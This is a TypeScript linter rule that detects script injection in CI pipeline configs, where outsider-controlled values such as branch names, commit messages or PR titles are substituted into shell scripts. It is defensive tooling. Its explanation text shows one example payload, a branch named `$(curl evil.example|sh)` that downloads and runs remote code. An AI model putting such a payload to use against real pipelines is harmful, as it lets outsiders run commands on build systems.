import type { Report } from '../../source/diagnostic.ts';
import type { Entry, Node, ScalarNode } from '../../tree/node.ts';
import { spanWithin } from '../../tree/span-within.ts';
import type { ConfigFacts } from '../facts.ts';
import { outsideAuthor, reachingNames, type ReachingName } from '../outside-values.ts';
import type { Rule } from '../rule.ts';
import { type Callee, calleeOf, type Names, scriptOf } from '../shell-flow.ts';

/** PVL-05: a tag is filled in before the shell reads the script, so what it holds is read as shell, too. */
export const scriptInjection: Rule = {
  code: 'security/script-injection',
  words: ['pipeline.git.branch', 'pipeline.git.commit.', 'pipeline.event.', 'pipeline.trigger_parameters.'],
  explanation:
    'A tag in a `run` step is filled in before the shell sees the script. Where its text is chosen by somebody from ' +
    'outside (a branch of a fork, a commit message, the title of a pull request), that text is run: a branch may be ' +
    'called `$(curl evil.example|sh)`. A variable under `environment` carries it safely, as data. Values that reach a ' +
    'script through parameters, of orbs as well, are followed.',
  step(step, report, facts) {
    if (step.kind === 'step') checkItem(step.key, step.args, false, { facts, report });
    else if (step.kind === 'splice') checkLists(step.value, { facts, report });
  },
  entry({ key, settings }, report, facts) {
    if (settings !== undefined) checkItem(key, settings, true, { facts, report });
  },
  config(facts, report) {
    checkDefaults({ facts, report });
  },
};

interface Search {
  readonly facts: ConfigFacts;
  readonly report: Report;
}

/** Steps that are passed as a value: `pre-steps`, and parameters of type steps. */
function checkLists(node: Node, search: Search): void {
  if (node.kind === 'scalar') return;
  if (node.kind === 'map') {
    for (const { value } of node.entries) checkLists(value, search);
    return;
  }
  for (const item of node.items) {
    const entry = item.kind === 'map' ? item.entries[0] : undefined;
    if (entry !== undefined) checkItem(entry.key, entry.value, false, search);
  }
}

/** A step, or a job of a workflow, with what it is given. */
function checkItem(key: string, value: Node | undefined, isJob: boolean, search: Search): void {
  if (value === undefined) return;
  const callee = calleeOf(isJob ? 'jobs' : 'commands', key, namesOf(search));
  if (value.kind === 'map')
    for (const entry of value.entries)
      if (entry.value.kind !== 'scalar') checkLists(entry.value, search);
      else if (callee !== undefined) checkArgument(entry, callee, search);
  const script = callee === undefined && !isJob ? scriptOf(key, value) : undefined;
  if (script?.kind !== 'scalar') return;
  for (const found of outsideNames(script))
    search.report(
      'security/script-injection',
      placeOf(script, found, search),
      `${found.name} becomes part of this script, so ${found.author} can run commands here.`,
      { hint: asVariable(found.name) },
    );
}

function checkArgument({ key, value }: Entry, callee: Callee, search: Search): void {
  if (value.kind !== 'scalar') return;
  for (const found of outsideNames(value)) {
    const script = search.facts.shellFlow(callee, key);
    if (script === undefined) continue;
    const isOurs = script.file === search.facts.source.id;
    search.report(
      'security/script-injection',
      placeOf(value, found, search),
      `${found.name} becomes part of a script by the parameter "${key}", so ${found.author} can run commands there.`,
      {
        related: [{ span: script, message: 'the script stands here' }],
        hint: isOurs ? asVariable(`parameters.${key}`) : 'Pass another value, or none that others choose.',
      },
    );
  }
}

/** A default counts as passed. */
function checkDefaults(search: Search): void {
  const names = namesOf(search);
  const { definitions } = names;
  for (const kind of ['commands', 'jobs'] as const)
    for (const name of definitions[kind].names) {
      const callee = calleeOf(kind, name, names);
      if (callee?.definition.name !== name) continue;
      for (const [key, { default: value }] of callee.definition.parameters)
        if (value !== undefined) checkArgument({ key, keySpan: value.span, value }, callee, search);
    }
}

function namesOf({ facts }: Search): Names {
  return { definitions: facts.config.definitions, orbs: facts.orbs };
}

interface OutsideName extends ReachingName {
  readonly author: string;
}

function outsideNames(node: ScalarNode): readonly OutsideName[] {
  if (typeof node.value !== 'string') return [];
  return reachingNames(node.value).flatMap((found) => {
    const author = outsideAuthor(found.name);
    return author === undefined ? [] : [{ ...found, author }];
  });
}

function placeOf(node: ScalarNode, { offset, length }: ReachingName, { facts }: Search) {
  return spanWithin(node, facts.source.text, offset, length);
}

function asVariable(name: string): string {
  const variable = (name.split('.').at(-1) ?? 'VALUE').toUpperCase().replaceAll('-', '_');
  return `Pass it by environment: {${variable}: << ${name} >>} and write "$${variable}" in the script.`;
}
